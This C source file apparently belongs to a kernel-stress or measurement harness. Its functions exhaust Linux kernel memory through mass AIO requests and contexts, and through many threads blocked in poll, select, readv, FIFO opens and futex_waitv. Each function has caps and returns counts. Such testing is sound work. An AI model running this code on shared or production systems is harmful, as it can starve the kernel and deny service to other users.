// Attacks with many threads that wait in a system call: polls, reads, opens and futexes.
#include "attacks.h"

long aio_polls(void) {
  static struct iocb request;
  aio_context_t context = 0;
  int ends[2];
  if (pipe(ends) < 0) return 0;
  if (syscall(SYS_io_setup, 1000000, &context) < 0) return 0;
  request = (struct iocb){.aio_lio_opcode = IOCB_CMD_POLL, .aio_fildes = (uint32_t)ends[0], .aio_buf = POLLIN};
  struct iocb *list = &request;
  for (long made = 0;; made++)
    if (made == 1000000 || ((made & 255) == 0 && !has_time()) || syscall(SYS_io_submit, context, 1, &list) < 0) return made;
}

long aio_contexts(void) {
  for (long made = 0;; made++) {
    aio_context_t context = 0;
    if (made == 20000 || !has_time() || syscall(SYS_io_setup, 1, &context) < 0) return made;
  }
}

static long in_threads(long most, void *(*run)(void *), void *given) {
  pthread_attr_t small;
  pthread_attr_init(&small);
  pthread_attr_setstacksize(&small, 65536);
  for (long made = 0;; made++) {
    pthread_t thread;
    if (made == most || !has_time() || (errno = pthread_create(&thread, &small, run, given)) != 0) {
      usleep(300000); // by then the last objects have allocated their memory
      return made;
    }
  }
}

static long most_polled;

static void *poll_many(void *list) {
  poll(list, (nfds_t)most_polled, -1);
  return NULL;
}

long poll_tables(void) {
  static struct pollfd list[65536];
  int ends[2];
  if (pipe(ends) < 0) return 0;
  for (int n = 0; n < 65536; n++) list[n] = (struct pollfd){.fd = ends[0], .events = POLLIN};
  for (most_polled = 65536; most_polled > 16; most_polled /= 2)
    if (poll(list, (nfds_t)most_polled, 0) >= 0) break;
  return in_threads(65536 / most_polled * 15, poll_many, list);
}

static void *select_many(void *set) {
  unsigned long mine[1024];
  memcpy(mine, set, sizeof mine);
  syscall(SYS_select, most_polled, mine, NULL, NULL, NULL);
  return NULL;
}

long select_tables(void) {
  static unsigned long set[1024], now[1024];
  int ends[2];
  if (pipe(ends) < 0) return 0;
  while (dup(ends[0]) >= 0) {}
  for (int fd = 0; fd < 65536; fd++)
    if (fd > 2 && fd != ends[1] && fcntl(fd, F_GETFD) >= 0) set[fd / 64] |= 1UL << fd % 64;
  struct timeval none = {0};
  for (most_polled = 65536; most_polled > 16; most_polled /= 2) {
    memcpy(now, set, sizeof now);
    if (syscall(SYS_select, most_polled, now, NULL, NULL, &none) >= 0) break;
  }
  return in_threads(65536 / most_polled * 15, select_many, set);
}

static struct iovec pieces[1024];
static int silent[2];

static void *read_pieces(void *nothing) {
  readv(silent[0], pieces, 1024);
  return nothing;
}

long blocked_readers(void) {
  static char byte;
  if (pipe(silent) < 0) return 0;
  for (int n = 0; n < 1024; n++) pieces[n] = (struct iovec){&byte, 1};
  return in_threads(900, read_pieces, NULL);
}

static void *open_fifo(void *path) {
  return (void *)(intptr_t)open(path, O_RDONLY);
}

long blocked_opens(void) {
  mkfifo("/tmp/fifo", 0600);
  return in_threads(900, open_fifo, "/tmp/fifo");
}

static void *wait_for_many(void *list) {
  syscall(449, list, 128, 0, NULL, CLOCK_MONOTONIC); // futex_waitv
  return NULL;
}

long futex_vectors(void) {
  static uint32_t words[128];
  static struct {
    uint64_t value, address;
    uint32_t flags, reserved;
  } list[128];
  for (int n = 0; n < 128; n++) list[n].address = (uintptr_t)&words[n], list[n].flags = 2 | 128;
  return in_threads(900, wait_for_many, list);
}
